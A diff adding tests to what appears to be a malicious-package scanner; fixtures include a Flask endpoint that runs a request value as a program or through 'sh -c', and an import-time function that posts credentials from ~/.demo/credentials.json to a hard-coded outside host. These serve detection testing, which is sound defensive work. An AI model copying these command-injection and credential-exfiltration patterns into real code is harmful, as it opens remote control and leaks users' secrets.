@@ -3063,3 +3063,106 @@ def test_the_module_an_old_style_flit_table_names_stays_installed_code():
     result = scan({"pyproject.toml": moved, "demo/__init__.py": "", "sphinx/make.py": init})
     assert "demo-1.0/sphinx/make.py" not in result.tooling
     assert result.verdict == "malicious"
+
+
+# -- a peer's values given as arguments to a program the code names ------------------------------
+
+_ZIP_ENDPOINT = """
+import subprocess
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/download/<sha256>")
+def download(sha256):
+    password = request.args.get("password", "infected")
+    {run}
+    return {{"ok": True}}
+"""
+
+
+def test_a_request_value_given_as_an_argument_to_a_named_tool_is_not_remote_control():
+    run = 'subprocess.run(["zip", "-j", "--password", password, "out.zip", sha256], check=True)'
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": _ZIP_ENDPOINT.format(run=run)}
+    )
+    assert not found(result, "intent.reverse-shell")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "subprocess.run([password], check=True)",  # the peer names the program
+        'subprocess.run(["sh", "-c", password])',  # or gives a shell its command
+        "subprocess.run(password.split())",
+        'subprocess.run([sys.executable, "-c", password])',
+    ],
+)
+def test_a_request_value_run_as_the_program_or_by_a_shell_stays_remote_control(run):
+    src = "import sys\n" + _ZIP_ENDPOINT.format(run=run)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
+    assert "high" in severities(result, "intent.reverse-shell")
+    assert result.verdict in FLAGGED
+
+
+# -- building a network library's exception sends nothing -----------------------------------------
+
+_TOKEN_EXCHANGE = """
+import json
+import os
+
+import requests
+
+
+def exchange():
+    with open(os.path.expanduser("~/.demo/credentials.json")) as f:
+        creds = json.load(f)
+    resp = requests.post(
+        "{url}", json={{"client_id": creds["id"], "client_secret": creds["secret"]}}
+    )
+    if resp.status_code != 200:
+        raise requests.HTTPError(response=resp)
+    return resp.json()
+"""
+
+
+def test_raising_a_network_library_s_error_with_the_response_sends_nothing():
+    """The exchange goes to the address the user configured; raising ``HTTPError(response=...)``
+    with what came back is neither a connection nor a second send."""
+    src = """
+import json
+import os
+
+import requests
+
+
+class Client:
+    def __init__(self):
+        self.session = requests.Session()
+        with open(os.path.expanduser("~/.demo/credentials.json")) as f:
+            creds = json.load(f)
+        self._secret = creds["client_secret"]
+        self._server = creds["api_server"]
+
+    def exchange(self):
+        resp = self.session.request(
+            method="post", url=self._server + "/v1/oauth/token", json={"secret": self._secret}
+        )
+        if resp.status_code != 200:
+            raise requests.HTTPError(response=resp)
+        return resp.json()
+"""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/auth.py": src})
+    assert not [f for f in result.findings if "HTTPError" in f.evidence]
+    assert result.verdict not in FLAGGED
+
+
+def test_secrets_sent_to_a_host_written_in_stay_exfiltration_beside_the_error():
+    src = _TOKEN_EXCHANGE.format(url="https://collector-cdn.net/t")
+    init = "from demo.auth import exchange\nexchange()\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/auth.py": src})
+    assert severities(result, "intent.exfiltration") & {"high", "critical"}
+    assert result.verdict in FLAGGED
